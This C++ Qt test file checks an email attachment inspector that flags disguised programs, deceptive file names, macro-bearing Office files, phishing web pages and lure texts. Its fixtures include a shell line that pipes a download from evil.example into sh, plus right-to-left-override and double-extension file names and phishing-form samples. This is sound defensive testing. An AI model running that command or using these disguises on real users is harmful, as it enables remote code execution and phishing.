// What an attachment really is (issue 16): names read as the system reads them, programs known by
// their bytes whatever they are called, archives listed by libarchive without extracting, macros
// in Office files, forms and scripts in attached web pages, and the text around them (a password
// for a locked archive, a request to enable macros). Archives are written here with libarchive,
// so each case is built from the bytes up.

#include "security/ArchiveListing.h"
#include "security/AttachmentInspector.h"
#include "security/AttachmentName.h"
#include "security/PhishingAnalyzer.h"

#include <QtTest>
#include <archive.h>
#include <archive_entry.h>

using namespace Qt::StringLiterals;
using namespace Amiens;

namespace {

using Members = QList<QPair<QString, QByteArray>>;

/// An archive in @p format ("zip", "7zip", "iso9660", "ustar") holding @p members; @p options are
/// libarchive write options ("zip:encryption=zipcrypt").
QByteArray archiveOf(const char *format, const Members &members, const char *options = nullptr,
                     const char *passphrase = nullptr)
{
    archive *writer = archive_write_new();
    archive_write_set_format_by_name(writer, format);
    if (options)
        archive_write_set_options(writer, options);
    if (passphrase)
        archive_write_set_passphrase(writer, passphrase);
    QByteArray buffer(4 * 1024 * 1024, '\0');
    size_t used = 0;
    archive_write_set_bytes_in_last_block(writer, 1);
    if (archive_write_open_memory(writer, buffer.data(), static_cast<size_t>(buffer.size()), &used) !=
        ARCHIVE_OK)
        qFatal("archive_write_open_memory: %s", archive_error_string(writer));
    for (const auto &[path, data] : members) {
        archive_entry *entry = archive_entry_new();
        archive_entry_set_pathname_utf8(entry, path.toUtf8().constData());
        archive_entry_set_filetype(entry, AE_IFREG);
        archive_entry_set_perm(entry, 0644);
        archive_entry_set_size(entry, data.size());
        archive_entry_set_mtime(entry, 1796000000, 0);
        archive_write_header(writer, entry);
        archive_write_data(writer, data.constData(), static_cast<size_t>(data.size()));
        archive_entry_free(entry);
    }
    archive_write_close(writer);
    archive_write_free(writer);
    buffer.truncate(static_cast<qsizetype>(used));
    return buffer;
}

QByteArray windowsProgram()
{
    QByteArray program("MZ\x90\0\x03\0\0\0\x04\0\0\0\xFF\xFF\0\0", 16);
    program.append(QByteArray(0x3C - program.size(), '\0'));
    program.append(QByteArray("\x80\0\0\0", 4));
    program.append(QByteArray(0x80 - program.size(), '\0'));
    program.append(QByteArray("PE\0\0\x4C\x01", 6));
    program.append(QByteArray(512, '\x90'));
    return program;
}

QByteArray pdf()
{
    return "%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] "
           "/Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n";
}

/// An OLE2 compound file, as Word 97 writes, with or without a VBA project storage.
QByteArray ole2(bool withVba)
{
    QByteArray file("\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1", 8);
    file.append(QByteArray(504, '\0'));
    const auto utf16 = [](const char *name) {
        QByteArray bytes;
        for (const char *c = name; *c; ++c)
            bytes.append(*c).append('\0');
        return bytes;
    };
    file.append(utf16("Root Entry")).append(QByteArray(44, '\0'));
    file.append(utf16("WordDocument")).append(QByteArray(40, '\0'));
    if (withVba)
        file.append(utf16("Macros")).append(QByteArray(52, '\0')).append(utf16("_VBA_PROJECT"));
    file.append(QByteArray(1024, '\0'));
    return file;
}

AttachmentInfo attachment(const QString &name, const QString &type = u"application/octet-stream"_s)
{
    AttachmentInfo info;
    info.name = name;
    info.mimeType = type;
    return info;
}

QStringList codesOf(const QList<MessageWarning> &warnings)
{
    QStringList codes;
    for (const MessageWarning &warning : warnings)
        codes.append(warning.code);
    return codes;
}

} // namespace

class TestAttachments : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void namesAreShownWithTheirHiddenCharacters();
    void namesAreReadAsTheSystemReadsThem();
    void deceptiveNames_data();
    void deceptiveNames();
    void programsAreKnownByTheirBytes();
    void documentsAreNotPrograms();
    void archivesAreListedWithoutExtracting();
    void nestedAndEncryptedArchives();
    void diskImagesAndJavaArchives();
    void officeMacros();
    void attachedWebPages();
    void archiveListingIsBounded();
    void openingIsRefusedWithAReason();
    void passwordInTheText_data();
    void passwordInTheText();
    void requestsToEnableMacros_data();
    void requestsToEnableMacros();
};

void TestAttachments::namesAreShownWithTheirHiddenCharacters()
{
    const QString name = u"Releve_notes\u202Efdp.scr"_s;
    QCOMPARE(AttachmentName::visible(name), u"Releve_notes<U+202E>fdp.scr"_s);
    QCOMPARE(AttachmentName::visible(u"a\u200Bb.pdf"_s), u"a<U+200B>b.pdf"_s);
    QCOMPARE(AttachmentName::fileName(name), u"Releve_notesfdp.scr"_s);
    QCOMPARE(AttachmentName::visible(u"Compte-rendu conseil d'école.pdf"_s),
             u"Compte-rendu conseil d'école.pdf"_s);
}

void TestAttachments::namesAreReadAsTheSystemReadsThem()
{
    QCOMPARE(AttachmentName::extension(u"Releve_notes\u202Efdp.scr"_s), u"scr"_s);
    QCOMPARE(AttachmentName::extension(u"facture.EXE. . "_s), u"exe"_s); // Windows drops the end
    QCOMPARE(AttachmentName::extension(u"facture\uFF0E\uFF45\uFF58\uFF45"_s), u"exe"_s); // full width
    QCOMPARE(AttachmentName::extension(u"facture.\u0435\u0445\u0435"_s), u"exe"_s);      // Cyrillic
    QCOMPARE(AttachmentName::innerExtension(u"Facture.pdf.js"_s), u"pdf"_s);
    QVERIFY(AttachmentInspector::isProgramName(u"Facture.PDF.Js"_s));
    QVERIFY(!AttachmentInspector::isProgramName(u"Facture.pdf"_s));
    QVERIFY(!AttachmentInspector::isProgramName(u"exe"_s));
}

void TestAttachments::deceptiveNames_data()
{
    QTest::addColumn<QString>("name");
    QTest::addColumn<bool>("deceptive");
    QTest::newRow("right-to-left override") << u"Facture\u202Efdp.exe"_s << true;
    QTest::newRow("zero-width space") << u"Bulletin\u200B.pdf"_s << true;
    QTest::newRow("full-width dot") << u"Facture\uFF0Eexe"_s << true;
    QTest::newRow("one-dot leader") << u"Facture\u2024pdf.exe"_s << true;
    QTest::newRow("Cyrillic extension") << u"Facture.\u0435\u0445\u0435"_s << true;
    QTest::newRow("hidden behind spaces") << u"Facture.pdf                                .exe"_s << true;
    QTest::newRow("accents") << u"Compte-rendu conseil d'école.pdf"_s << false;
    QTest::newRow("macOS decomposed accents") << u"Re\u0301union e\u0301le\u0300ves.pdf"_s << false;
    QTest::newRow("superscript") << u"Plan 20 m².pdf"_s << false;
    QTest::newRow("Russian name, Latin extension") << u"Сочинение.docx"_s << false;
    QTest::newRow("scanner name") << u"SKM_C25826120409140.pdf"_s << false;
}

void TestAttachments::deceptiveNames()
{
    QFETCH(QString, name);
    QFETCH(bool, deceptive);
    QCOMPARE(AttachmentName::isDeceptive(name), deceptive);
}

void TestAttachments::programsAreKnownByTheirBytes()
{
    // Declared a PDF, named a PDF, but a Windows program.
    AttachmentVerdict verdict =
        AttachmentInspector::inspect(attachment(u"facture.pdf"_s, u"application/pdf"_s), windowsProgram());
    QVERIFY(verdict.program);
    QVERIFY(verdict.disguised);
    QVERIFY(verdict.refusesOpening());

    verdict = AttachmentInspector::inspect(attachment(u"photo.jpg"_s, u"image/jpeg"_s),
                                           QByteArray("\x7F"
                                                      "ELF\x02\x01\x01",
                                                      7) +
                                               QByteArray(200, '\0'));
    QVERIFY(verdict.program && verdict.disguised);

    verdict = AttachmentInspector::inspect(attachment(u"notes.txt"_s, u"text/plain"_s),
                                           "#!/bin/sh\ncurl https://evil.example/x | sh\n");
    QVERIFY(verdict.program && verdict.disguised);

    // A Windows shortcut with no extension at all.
    verdict = AttachmentInspector::inspect(
        attachment(u"Document"_s),
        QByteArray("\x4C\0\0\0\x01\x14\x02\0\0\0\0\0\xC0\0\0\0\0\0\0\x46", 20) + QByteArray(100, '\0'));
    QVERIFY(verdict.program);
    QVERIFY(!verdict.disguised);

    // By name alone: a double extension, trailing dots, a declared script type.
    verdict = AttachmentInspector::inspect(attachment(u"Facture.pdf.js"_s), "var a = 1;");
    QVERIFY(verdict.program && verdict.disguised);
    QVERIFY(AttachmentInspector::inspect(attachment(u"script.JS."_s), {}).program);
    QVERIFY(AttachmentInspector::inspect(attachment(u"lien"_s, u"application/x-ms-shortcut"_s), {}).program);
    QVERIFY(
        AttachmentInspector::inspect(attachment(u"appli.desktop"_s), "[Desktop Entry]\nExec=sh\n").program);
}

void TestAttachments::documentsAreNotPrograms()
{
    // What the academy exchanges every day raises nothing.
    const QList<QPair<AttachmentInfo, QByteArray>> documents = {
        {attachment(u"Convocation.pdf"_s, u"application/pdf"_s), pdf()},
        {attachment(u"photo.png"_s, u"image/png"_s),
         QByteArray("\x89PNG\r\n\x1A\n", 8) + QByteArray(64, '\0')},
        {attachment(u"invitation.ics"_s, u"text/calendar"_s),
         "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nEND:VCALENDAR\r\n"},
        {attachment(u"notes.txt"_s, u"text/plain"_s), "Bonjour, voici les notes.\n"},
        {attachment(u"TP_NSI.py"_s, u"text/x-python"_s), "print('Bonjour')\n"},
        {attachment(u"ATT00001.bin"_s), QByteArray(64, '\x01')},
        {attachment(u"Sujet.doc"_s, u"application/msword"_s), ole2(false)},
    };
    for (const auto &[info, bytes] : documents) {
        const AttachmentVerdict verdict = AttachmentInspector::inspect(info, bytes);
        QVERIFY2(!verdict.isSuspicious(), qPrintable(info.name));
        QVERIFY(AttachmentInspector::openingRefusal(verdict).isEmpty());
    }
}

void TestAttachments::archivesAreListedWithoutExtracting()
{
    const QByteArray lure = archiveOf("zip", {{u"Facture_impayee/Facture.pdf.js"_s, "WScript.Shell"}});
    const ArchiveListing listing = ArchiveListing::read(lure);
    QVERIFY(listing.isArchive);
    QCOMPARE(listing.members, QStringList{u"Facture_impayee/Facture.pdf.js"_s});
    AttachmentVerdict verdict =
        AttachmentInspector::inspect(attachment(u"Facture.zip"_s, u"application/zip"_s), lure);
    QCOMPARE(verdict.programMembers, QStringList{u"Facture_impayee/Facture.pdf.js"_s});
    QVERIFY(!verdict.program);
    QVERIFY(verdict.refusesOpening());

    const QByteArray homework = archiveOf(
        "zip",
        {{u"3eB/Dupont_Lea.odt"_s, "odt"}, {u"3eB/Martin_Hugo.pdf"_s, pdf()}, {u"3eB/schéma.png"_s, "png"}});
    verdict = AttachmentInspector::inspect(attachment(u"Devoirs 3eB.zip"_s, u"application/zip"_s), homework);
    QVERIFY(!verdict.isSuspicious());
    QCOMPARE(ArchiveListing::read(homework).members.size(), 3);
    QVERIFY(ArchiveListing::read(homework).members.contains(u"3eB/schéma.png"_s));

    const QByteArray sevenZip = archiveOf("7zip", {{u"Scan_0042.pdf.vbs"_s, "MsgBox 1"}});
    verdict = AttachmentInspector::inspect(attachment(u"Scan_0042.7z"_s), sevenZip);
    QCOMPARE(verdict.programMembers, QStringList{u"Scan_0042.pdf.vbs"_s});
}

void TestAttachments::nestedAndEncryptedArchives()
{
    const QByteArray inner = archiveOf("zip", {{u"setup.exe"_s, windowsProgram()}});
    const QByteArray outer =
        archiveOf("zip", {{u"lisez-moi.txt"_s, "ouvrir le dossier"}, {u"dossier.zip"_s, inner}});
    AttachmentVerdict verdict = AttachmentInspector::inspect(attachment(u"Dossier.zip"_s), outer);
    QCOMPARE(verdict.programMembers, QStringList{u"dossier.zip › setup.exe"_s});

    // Locked with a password: the member list of a zip stays readable.
    const QByteArray locked =
        archiveOf("zip", {{u"Facture.exe"_s, windowsProgram()}}, "zip:encryption=zipcrypt", "2026");
    verdict = AttachmentInspector::inspect(attachment(u"Facture.zip"_s), locked);
    QVERIFY(verdict.encryptedArchive);
    QCOMPARE(verdict.programMembers, QStringList{u"Facture.exe"_s});

    const QByteArray lockedPdfs =
        archiveOf("zip", {{u"Bulletins_T1.pdf"_s, pdf()}}, "zip:encryption=zipcrypt", "Am1ens!");
    verdict = AttachmentInspector::inspect(attachment(u"Bulletins.zip"_s), lockedPdfs);
    QVERIFY(verdict.encryptedArchive);
    QVERIFY(!verdict.refusesOpening());
}

void TestAttachments::diskImagesAndJavaArchives()
{
    const QByteArray iso = archiveOf("iso9660", {{u"FACTURE.LNK"_s, "L"}, {u"DATA.DAT"_s, "x"}});
    AttachmentVerdict verdict = AttachmentInspector::inspect(attachment(u"Commande.img"_s), iso);
    QVERIFY(verdict.program);
    QVERIFY2(verdict.programMembers.join(u',').contains(u".LNK"_s, Qt::CaseInsensitive),
             qPrintable(verdict.programMembers.join(u',')));
    // Named as a document, it is still a disk image.
    verdict = AttachmentInspector::inspect(attachment(u"Commande.pdf"_s, u"application/pdf"_s), iso);
    QVERIFY(verdict.program && verdict.disguised);

    const QByteArray jar = archiveOf(
        "zip", {{u"META-INF/MANIFEST.MF"_s, "Main-Class: a.B\n"}, {u"a/B.class"_s, "\xCA\xFE\xBA\xBE"}});
    QVERIFY(AttachmentInspector::inspect(attachment(u"facture.zip"_s, u"application/zip"_s), jar).program);
}

void TestAttachments::officeMacros()
{
    const Members docx = {{u"[Content_Types].xml"_s, "<Types/>"},
                          {u"_rels/.rels"_s, "<Relationships/>"},
                          {u"word/document.xml"_s, "<w:document/>"}};
    Members docm = docx;
    docm.append({u"word/vbaProject.bin"_s, ole2(true)});
    QVERIFY(
        !AttachmentInspector::inspect(attachment(u"Bon_de_commande.docx"_s), archiveOf("zip", docx)).macros);
    // Renamed .docx, still macros; and a .docm is one by its name.
    QVERIFY(
        AttachmentInspector::inspect(attachment(u"Bon_de_commande.docx"_s), archiveOf("zip", docm)).macros);
    QVERIFY(AttachmentInspector::inspect(attachment(u"Bon.xlsm"_s), {}).macros);
    QVERIFY(
        AttachmentInspector::inspect(attachment(u"Tableau.xls"_s, u"application/vnd.ms-excel"_s), ole2(true))
            .macros);
    QVERIFY(!AttachmentInspector::inspect(attachment(u"Tableau.xls"_s), ole2(false)).macros);

    const Members odt = {{u"mimetype"_s, "application/vnd.oasis.opendocument.text"},
                         {u"content.xml"_s, "<office:document-content/>"},
                         {u"META-INF/manifest.xml"_s, "<manifest:manifest/>"}};
    Members odtWithBasic = odt;
    odtWithBasic.append({u"Basic/Standard/Module1.xml"_s, "<script:module/>"});
    QVERIFY(!AttachmentInspector::inspect(attachment(u"Progression.odt"_s), archiveOf("zip", odt))
                 .isSuspicious());
    QVERIFY(AttachmentInspector::inspect(attachment(u"Progression.odt"_s), archiveOf("zip", odtWithBasic))
                .macros);
    // Macros alone do not stop « Ouvrir »: the office suite asks before running them.
    QVERIFY(
        !AttachmentInspector::inspect(attachment(u"Bon.docm"_s), archiveOf("zip", docm)).refusesOpening());
}

void TestAttachments::attachedWebPages()
{
    const QByteArray login =
        "<html><body><h1>Portail ARENA</h1><form action=\"https://arena-ac-amiens.example/p\" "
        "method=\"post\"><input name=\"u\"><input type=\"password\" name=\"p\"></form></body></html>";
    AttachmentVerdict verdict =
        AttachmentInspector::inspect(attachment(u"Facture_2026.html"_s, u"text/html"_s), login);
    QVERIFY(verdict.webForm);
    QVERIFY(verdict.refusesOpening());

    const QByteArray svg =
        "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"location='https://x.example'\"><rect/></svg>";
    verdict = AttachmentInspector::inspect(attachment(u"Scan.svg"_s, u"image/svg+xml"_s), svg);
    QVERIFY(verdict.webScript);

    // Saved by Windows in UTF-16 with its byte-order mark.
    const QString unicodePage =
        u"<html><form action=\"https://x.example\"><input type=password></form></html>"_s;
    QByteArray utf16("\xFF\xFE", 2);
    utf16.append(reinterpret_cast<const char *>(unicodePage.utf16()), unicodePage.size() * 2);
    QVERIFY(AttachmentInspector::inspect(attachment(u"Avis.html"_s, u"text/html"_s), utf16).webForm);

    const QByteArray refresh = "<meta http-equiv=\"Refresh\" content=\"0; url=https://x.example\">";
    QVERIFY(AttachmentInspector::inspect(attachment(u"Avis.htm"_s), refresh).webScript);

    // A report exported as a page, with "on" words in its text: nothing to say.
    const QByteArray report = "<html><body><p>Réunion on line = visio ; conditions de réussite</p>"
                              "<table><tr><td>Note</td></tr></table></body></html>";
    verdict = AttachmentInspector::inspect(attachment(u"Bilan.html"_s, u"text/html"_s), report);
    QVERIFY(!verdict.isSuspicious());
    // The same bytes as a PDF are not a page.
    QVERIFY(!AttachmentInspector::inspect(attachment(u"Bilan.pdf"_s, u"application/pdf"_s), pdf()).webForm);
}

void TestAttachments::archiveListingIsBounded()
{
    Members many;
    for (int i = 0; i < ArchiveListing::kMaxMembers + 50; ++i)
        many.append({u"f%1.txt"_s.arg(i), "x"});
    const ArchiveListing listing = ArchiveListing::read(archiveOf("zip", many));
    QCOMPARE(listing.members.size(), ArchiveListing::kMaxMembers);
    QVERIFY(listing.incomplete);

    // Broken archives: read as far as they go, never a crash.
    QByteArray broken = archiveOf("zip", {{u"a.exe"_s, windowsProgram()}, {u"b.txt"_s, "b"}});
    broken.truncate(broken.size() / 2);
    const ArchiveListing damaged = ArchiveListing::read(broken);
    QVERIFY(damaged.members.size() <= 2);
    QVERIFY(ArchiveListing::read(QByteArray("PK\x03\x04", 4) + QByteArray(100, '\xFF')).members.isEmpty());
    QVERIFY(!ArchiveListing::read("plain text").isArchive);
}

void TestAttachments::openingIsRefusedWithAReason()
{
    const AttachmentVerdict program =
        AttachmentInspector::inspect(attachment(u"Facture\u202Efdp.exe"_s), windowsProgram());
    const QString refusal = AttachmentInspector::openingRefusal(program);
    QVERIFY(refusal.contains(u"Facture<U+202E>fdp.exe"_s));
    QVERIFY(program.deceptiveName);
}

void TestAttachments::passwordInTheText_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<bool>("given");
    QTest::newRow("colon") << u"Veuillez trouver la facture. Mot de passe : 2026"_s << true;
    QTest::newRow("quoted") << u"Le mot de passe est « Facture »."_s << true;
    QTest::newRow("digits after est") << u"le code d'ouverture est 4471"_s << true;
    QTest::newRow("for the archive") << u"Mot de passe de l'archive : AZ12"_s << true;
    QTest::newRow("english") << u"The password is 7788 for the attached file"_s << true;
    QTest::newRow("sent separately") << u"Le mot de passe vous sera transmis par SMS."_s << false;
    QTest::newRow("est + word") << u"Le mot de passe est communiqué séparément, comme le demande le RGPD."_s
                                << false;
    QTest::newRow("nothing") << u"Voici les bulletins du premier trimestre."_s << false;
}

void TestAttachments::passwordInTheText()
{
    QFETCH(QString, text);
    QFETCH(bool, given);
    AttachmentVerdict locked;
    locked.name = u"Bulletins.zip"_s;
    locked.encryptedArchive = true;
    PhishingAnalyzer::Input input;
    input.headers.from = {u"Secrétariat"_s, u"ce.0800001a@ac-amiens.fr"_s};
    input.text = text;
    input.attachments = {locked};
    QCOMPARE(codesOf(PhishingAnalyzer().analyse(input)).contains(u"attachment-encrypted-archive"_s), given);
    // Without a locked archive, a password in the text is not this warning.
    input.attachments.clear();
    QVERIFY(!codesOf(PhishingAnalyzer().analyse(input)).contains(u"attachment-encrypted-archive"_s));
}

void TestAttachments::requestsToEnableMacros_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<bool>("asks");
    QTest::newRow("activer le contenu")
        << u"Merci d'activer le contenu (macros) pour voir la commande."_s << true;
    QTest::newRow("activez les macros") << u"Activez les macros pour afficher le document."_s << true;
    QTest::newRow("modification") << u"Cliquez sur Activer la modification puis Activer le contenu."_s
                                  << true;
    QTest::newRow("english") << u"Please Enable Content to view this invoice."_s << true;
    QTest::newRow("activate the account") << u"Activez votre compte ENT avant le 15 septembre."_s << false;
    QTest::newRow("activities") << u"Les activités du contenu pédagogique sont en ligne."_s << false;
}

void TestAttachments::requestsToEnableMacros()
{
    QFETCH(QString, text);
    QFETCH(bool, asks);
    PhishingAnalyzer::Input input;
    input.headers.from = {u"Éditions"_s, u"commandes@editions.example"_s};
    input.text = text;
    QCOMPARE(codesOf(PhishingAnalyzer().analyse(input)).contains(u"enable-content-request"_s), asks);
}

QTEST_GUILESS_MAIN(TestAttachments)
#include "tst_attachments.moc"
